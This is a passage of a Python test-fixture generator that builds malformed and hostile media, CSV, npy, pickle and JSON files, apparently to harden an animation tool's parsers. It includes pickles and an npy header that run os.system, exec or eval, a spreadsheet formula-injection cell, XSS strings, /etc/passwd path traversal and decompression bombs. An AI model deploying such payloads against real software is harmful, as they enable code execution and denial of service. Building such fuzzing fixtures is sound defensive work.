        "slow.avi": lambda: filmed("avi", "-c:v", "mjpeg", "-r", "0.01"),
        "tiny.mp4": lambda: filmed("mp4", source="testsrc=s=2x2:r=10:d=1"),
        "sound.mp4": lambda: filmed("mp4", "-vn", source="anullsrc=d=1"),
        "streams.mkv": lambda: filmed("matroska", *["-map", "0:v"] * 60, "-c:v", "mjpeg"),
        "picture.mp4": lambda: small("PNG"),
        "photo.mp4": lambda: small("JPEG"),
        "boxes.mp4": lambda: box(b"ftyp", b"isom") + nested(5000),
        "endless-box.mp4": box(b"ftyp", b"isom") + box(b"moov", b"", 0) + bytes(100),
        "long-box.mp4": box(b"ftyp", b"isom")
        + struct.pack(">I4sQ", 1, b"moov", 2**63 - 1)
        + bytes(99),
        "short-box.mp4": box(b"ftyp", b"isom") + box(b"moov", b"", 3) * 1000,
        "many-boxes.mp4": lambda: box(b"ftyp", b"isom") + box(b"free") * 1_000_000,
        "counts.mp4": lambda: with_words(
            filmed("mp4"), b"stts\0\0\0\0\0\0\0\1", b"stts\0\0\0\0\xff\xff\xff\xff"
        ),
        "unknown.mkv": b"\x1a\x45\xdf\xa3\x01" + b"\xff" * 5000,
        "flv.flv": b"FLV\x01\x05\0\0\0\x09" + b"\x12\xff\xff\xff" * 50_000,
        "ogg.ogv": b"OggS" * 100_000,
    }
)


# ---- Animated pictures, as films ----


def apng(width: int, height: int, frames: list[tuple[int, int, int, int]], delay=(1, 10)) -> bytes:
    """An animated PNG of black frames (width, height, x, y), whatever they say of themselves."""
    chunks, number = [chunk(b"acTL", struct.pack(">II", len(frames), 0))], 0
    for i, (wide, high, x, y) in enumerate(frames):
        head = struct.pack(">IIIIIHHBB", number, wide, high, x, y, *delay, 0, 0)
        pixels = zlib.compress(bytes(1 + 3 * wide) * high)
        body = (
            chunk(b"fdAT", struct.pack(">I", number + 1) + pixels) if i else chunk(b"IDAT", pixels)
        )
        chunks += [chunk(b"fcTL", head), body]
        number += 1 + bool(i)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IEND")


def riff(kind: bytes, data: bytes, size: int | None = None) -> bytes:
    size = len(data) if size is None else size
    return kind + struct.pack("<I", size) + data + b"\0" * (len(data) % 2)


def three(*numbers: int) -> bytes:
    return b"".join(struct.pack("<I", number)[:3] for number in numbers)


def animated_webp(
    width: int, height: int, count=3, milliseconds=100, at=(0, 0), claims=None
) -> bytes:
    """An animated WebP of frames of 64 x 64 pixels; claims: their sizes, as they say."""
    picture = small("WEBP", lossless=True)[12:]
    wide, high = claims or (64, 64)
    frame = three(*at, wide - 1, high - 1, milliseconds) + b"\0" + picture
    body = riff(b"VP8X", b"\x02\0\0\0" + three(width - 1, height - 1))
    body += riff(b"ANIM", b"\xff\xff\xff\xff\0\0") + riff(b"ANMF", frame) * count
    return riff(b"RIFF", b"WEBP" + body)


def lasting_gif(centiseconds: int, count: int) -> bytes:
    frame = b"\x21\xf9\x04\0" + struct.pack("<H", centiseconds) + b"\0\0" + gif_frame(64, 64)
    return gif(64, 64, frame * count)


WHOLE = (64, 64, 0, 0)
add(
    {
        "huge-anim.png": lambda: apng(2**31 - 1, 2**31 - 1, [WHOLE, WHOLE]),
        "canvas-anim.png": lambda: apng(7000, 5000, [(7000, 5000, 0, 0), *[(1, 1, 9, 9)] * 3]),
        "outside-anim.png": lambda: apng(64, 64, [WHOLE, (64, 64, 2**31, 2**31 - 1)]),
        "large-frame-anim.png": lambda: apng(64, 64, [WHOLE, (3000, 3000, 0, 0)]),
        "delay-anim.png": lambda: apng(64, 64, [WHOLE] * 3, (1, 0)),
        "slow-anim.png": lambda: apng(64, 64, [WHOLE] * 9, (65535, 1)),
        "fast-anim.png": lambda: apng(64, 64, [WHOLE] * 500, (0, 65535)),
        "frames-anim.png": lambda: apng(64, 64, [WHOLE, *[(1, 1, 0, 0)] * 3000], (1, 60)),
        "claims-anim.png": lambda: with_words(
            apng(64, 64, [WHOLE] * 2), b"acTL\0\0\0\2", b"acTL\xff\xff\xff\xff"
        ),
        "text-anim.png": lambda: with_words(
            apng(64, 64, [WHOLE] * 2),
            chunk(b"IEND"),
            chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(300_000_000))) + chunk(b"IEND"),
        ),
        "head-text-anim.png": lambda: with_words(
            apng(64, 64, [WHOLE] * 2),
            b"\0\0\0\x08acTL",
            chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(300_000_000))) + b"\0\0\0\x08acTL",
        ),
        "cut-anim.png": lambda: (d := apng(64, 64, [WHOLE] * 9))[: len(d) * 2 // 3],
        "huge-anim.webp": lambda: animated_webp(16384, 16384),
        "canvas-anim.webp": lambda: animated_webp(7000, 5000),
        "outside-anim.webp": lambda: animated_webp(64, 64, at=(2**23, 2**23)),
        "claims-anim.webp": lambda: animated_webp(64, 64, claims=(2**24, 2**24)),
        "still-anim.webp": lambda: animated_webp(64, 64, 1),
        "none-anim.webp": lambda: animated_webp(64, 64, 0),
        "slow-anim.webp": lambda: animated_webp(64, 64, 9, 2**24 - 1),
        "fast-anim.webp": lambda: animated_webp(64, 64, 500, 0),
        "frames-anim.webp": lambda: animated_webp(64, 64, 3000, 16),
        "size-anim.webp": lambda: with_words(
            animated_webp(64, 64), b"ANMF", b"ANMF\xff\xff\xff\xff"
        ),
        "cut-anim.webp": lambda: (d := animated_webp(64, 64, 9))[: len(d) * 2 // 3],
        "slow.gif": lambda: lasting_gif(65535, 9),
        "fast.gif": lambda: lasting_gif(0, 500),
        "cut.dv": lambda: filmed("dv", source="testsrc=s=720x576:r=25:d=0.2")[:-70_000],
        "noise.dv": lambda: (
            filmed("dv", source="testsrc=s=720x576:r=25:d=0.04")[:480]
            + np.random.default_rng(0).bytes(300_000)
        ),
        "canvas-hdr.mkv": lambda: filmed(
            *("matroska", "-c:v", "ffv1", "-pix_fmt", "yuv420p10le", "-vf"),
            "setparams=color_trc=smpte2084:color_primaries=bt2020:colorspace=bt2020nc",
            source="color=s=7000x5000:r=10:d=0.2",
        ),
    }
)


# ---- Tables ----

UNITS = ",".join(
    f"AU{n:02d}" for n in (1, 2, 4, 5, 6, 7, 9, 10, 12, 14, 15, 17, 20, 23, 25, 26, 45)
)


def npy(
    header: bytes, data: bytes = bytes(136), version=b"\x01\0", size: bytes | None = None
) -> bytes:
    return b"\x93NUMPY" + version + (size or struct.pack("<H", len(header) % 2**16)) + header + data


def described(kind: str, shape: str, order="False") -> bytes:
    return f"{{'descr': {kind}, 'fortran_order': {order}, 'shape': {shape}, }}\n".encode()


class Calling:
    """Asks a reader of pickles to call something."""

    def __init__(self, call, *arguments):
        self.asked = call, arguments

    def __reduce__(self):
        return self.asked


def pickled(value, protocol=2) -> bytes:
    return pickle.dumps(value, protocol)


def lists(depth: int) -> bytes:
    """Lists of lists of the same lists: ten to the power of `depth` in the end."""
    value = ["ha"]
    for _ in range(depth):
        value = [value] * 10
    return pickled({"clip_0001": value})


add(
    {
        "nan.csv": f"{UNITS}\n{','.join(['nan'] * 17)}\n".encode(),
        "infinite.csv": f"{UNITS}\n{','.join(['-inf'] * 17)}\n".encode(),
        "overflow.csv": f"{UNITS}\n{','.join(['1e999'] * 17)}\n".encode(),
        "digits.csv": f"{UNITS}\n{','.join(['9' * 100_000] * 17)}\n".encode(),
        "rows.csv": lambda: b"AU12\n" + b"0.5\n" * 2_000_000,
        "columns.csv": lambda: b"0," * 1_000_000 + b"0\n",
        "cell.csv": lambda: b"AU12\n" + b"9" * 10_000_000,
        "quote.csv": lambda: b'AU12\n"' + b"9\n" * 1_000_000,
        "quotes.csv": b'"' * 100_000,
        "nul.csv": b"AU12\n0\0.5\n",
        "wide-letters.csv": "AU12\n0.5\n".encode("utf-16"),
        "formula.csv": b"AU12\n=cmd|'/c calc'!A0\n",
        "twice.csv": b"AU12,AU12\n0.5,0.5\n",
        "header.csv": f"{UNITS}\n".encode(),
        "lines.csv": b"AU12\r0.5\r\r0.6",
        "digits-elsewhere.csv": "AU12\n\u0661\u0662\n".encode(),
        "markup.csv": b"<script>alert(1)</script>\n0.5\n",
        "object.npy": lambda: _saved(np.array([{"a": 1}, Calling(print, "run")], object)),
        "code.npy": npy(described("'|O'", "(1,)"), pickled(Calling(exec, "raise SystemExit"))),
        "words.npy": npy(
            b"{'descr': __import__('os').system('touch /tmp/pwned'), 'shape': (2, 17)}\n"
        ),
        "nested.npy": npy(b"(" * 60_000),
        "claims.npy": npy(described("'<f8'", f"({2**62}, 17)")),
        "negative.npy": npy(described("'<f8'", "(-1, 17)")),
        "true.npy": npy(described("'<f8'", "(True, 17)")),
        "wide.npy": npy(described("'V2000000000'", "(2, 17)")),
        "fields.npy": npy(described("[('a', '<f8'), ('b', '|O')]", "(2,)")),
        "long-header.npy": npy(described("'<f8'", "(1, 17)"), version=b"\x03\0", size=b"\xff" * 4),
        "complex.npy": npy(described("'<c16'", "(1, 17)"), bytes(272)),
        "dates.npy": npy(described("'<M8[s]'", "(1, 17)")),
        "nan.npy": lambda: _saved(np.full((2, 17), np.nan)),
        "infinite.npy": lambda: _saved(np.full((2, 17), np.inf)),
        "nothing.npy": lambda: _saved(np.zeros((0, 17))),
        "point.npy": lambda: _saved(np.float64(1)),
        "zip.npy": lambda: zipped({"a.npy": _saved(np.zeros((2, 17)))}),
        "system.pkl": lambda: pickled(Calling(__import__("os").system, "touch /tmp/pwned")),
        "eval.pkl": lambda: pickled({"a_0001": Calling(eval, "1/0")}),
        "exec-0.pkl": lambda: pickled(Calling(exec, "raise SystemExit"), 0),
        "import.pkl": lambda: pickled(Calling(__import__, "antigravity"), 4),
        "open.pkl": lambda: pickled({"a_0001": Calling(open, "/tmp/pwned", "w")}, 5),
        "laughs.pkl": lambda: lists(12),
        "deep.pkl": b"\x80\x02" + b"](" * 200_000 + b"t.",
        "tuples.pkl": b"\x80\x02" + b")\x85" * 200_000 + b".",
        "copies.pkl": lambda: b"\x80\x02]" + b"2" * 10_000_000 + b".",
        "long.pkl": b"\x80\x02\x8b\xff\xff\xff\x7f" + bytes(100) + b".",
        "text.pkl": b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + bytes(100) + b".",
        "frame.pkl": b"\x80\x04\x95" + struct.pack("<Q", 2**62) + bytes(100) + b".",
        "bytes.pkl": b"\x80\x05\x96" + struct.pack("<Q", 2**40) + bytes(100) + b".",
        "memo.pkl": b"\x80\x02Nr\xff\xff\xff\x7f.",
        "persistent.pkl": b"\x80\x02Pname\n.",
        "attribute.pkl": b"\x80\x04\x8c\x08builtins\x8c\x0fobject.__class__\x93.",
        "number-names.pkl": b"\x80\x04K\x01K\x02\x93.",
        "state.pkl": b"\x80\x02}(X\x01\0\0\0aK\x01u}b.",
        "lists-as-names.pkl": b"\x80\x02}(]K\x01u.",
        "array.pkl": lambda: pickled({"a_0001": np.zeros(17)}).replace(
            b"K\x11\x85", b"J\xff\xff\xff\xff\x85"
        ),
        "nan.pkl": lambda: pickled({"a_0001": np.full(17, np.nan), "a_0002": np.zeros(17)}),
        "names.pkl": lambda: pickled(
            {"../../etc/passwd_0001": np.zeros(17), "\n_0002": np.zeros(17)}
        ),
        "numbers.pkl": lambda: pickled({f"a_{'9' * 5000}": np.zeros(17)}),
        "digits.pkl": b"I" + b"9" * 100_000 + b"\n.",
        "header.safetensors": struct.pack("<Q", 2**62) + b"{}" + bytes(100),
        "spaces.safetensors": lambda: struct.pack("<Q", 20_000_000) + b" " * 20_000_000,
    }
)


def _saved(array) -> bytes:
    out = io.BytesIO()
    np.save(out, array, allow_pickle=True)
    return out.getvalue()


# ---- Recipes ----

RECIPE = {
    "moodganimation": 1,
    "version": "0.1.0",
    "checkpoint": {"name": "warp", "sha256": "0" * 64},
    "face": {"photo": [512, 512], "box": [10, 10, 400, 400]},
    "space": "action_units",
    "expression": {"AU12": 0.5},
}


def recipe(text: bytes | None = None, **values) -> bytes:
    return text or json.dumps(RECIPE | values).encode()


def in_text(text: bytes) -> bytes:
    body = b"moodganimation\0\0\0\0\0" + text
    return png(64, 64, 8, 2, None, chunk(b"iTXt", body))


add(
    {
        "deep.json": b"[" * 100_000,
        "deep-names.json": b'{"a":' * 50_000,
        "nan.json": recipe().replace(b"0.5", b"NaN"),
        "infinite.json": recipe().replace(b"0.5", b"-Infinity"),
        "overflow.json": recipe().replace(b"0.5", b"1e999"),
        "digits.json": recipe().replace(b"0.5", b"9" * 50_000),
        "twice.json": recipe().replace(b'"AU12": 0.5', b'"AU12": 0.5, "AU12": 0.6'),
        "surrogate.json": recipe(version="\ud800"),
        "wide-letters.json": json.dumps(RECIPE).encode("utf-16"),
        "long.json": recipe(version="x" * 200_000),
        "future.json": recipe(moodganimation=10**30),
        "markup.json": recipe(
            checkpoint={"name": "<img src=x onerror=alert(1)>", "sha256": "0" * 64}
        ),
        "prototype.json": recipe(__proto__={"a": 1}),
        "path.json": recipe(checkpoint={"name": "../../../../etc/passwd", "sha256": "0" * 64}),
        "other-size.json": recipe(face={"photo": [10**9, 10**9], "box": [0, 0, 1, 1]}),
        "far.json": recipe(face={"photo": [512, 512], "to_face": [[1e6, 0, -1e6], [0, 1e6, 1e6]]}),
        "flat.json": recipe(face={"photo": [512, 512], "to_face": [[0, 0, 0], [0, 0, 0]]}),
        "frames.json": recipe(timeline={"fps": 60, "keyframes": [{"at": 600}]}),
        "keys.json": recipe(timeline={"keyframes": [{"at": i} for i in range(601)]}),
        "pace.json": recipe(timeline={"fps": 1e308, "keyframes": [{"at": 0}]}),
        "options.json": recipe(options={"half": [], "marked": "x" * 900, "others": {"0": {}}}),
        "crc.png": lambda: in_text(recipe())[:-30] + b"\0" * 30,
        "compressed.png": lambda: png(
            64,
            64,
            8,
            2,
            None,
            chunk(b"iTXt", b"moodganimation\0\1\0\0\0" + zlib.compress(bytes(100_000_000))),
        ),
        "deep.png": lambda: in_text(b"{" + b"[" * 50_000),
        "comment-wide.jpg": lambda: jpeg_with(jpeg_segment(0xE1, exif((0x9286, 7, 2**31, 8)))),
        "comment.mp4": lambda: (
            box(b"ftyp", b"isom")
            + box(
                b"moov",
                box(
                    b"udta",
                    box(
                        b"meta",
                        bytes(4)
                        + box(b"ilst", box(b"\xa9cmt", box(b"data", bytes(8) + b"a\n{" * 9))),
                    ),
                ),
            )
        ),
        "circle.mp4": box(b"ftyp", b"isom") + box(b"moov", box(b"udta", b"", 8), 2**31),
        "size.webp": b"RIFF\xff\xff\xff\xffWEBPVP8X\xff\xff\xff\xffEXIF\xff\xff\xff\xff",
        "chunks.webp": lambda: b"RIFF\xff\xff\xff\xffWEBP" + b"abcd\0\0\0\0" * 500_000,
    }
)
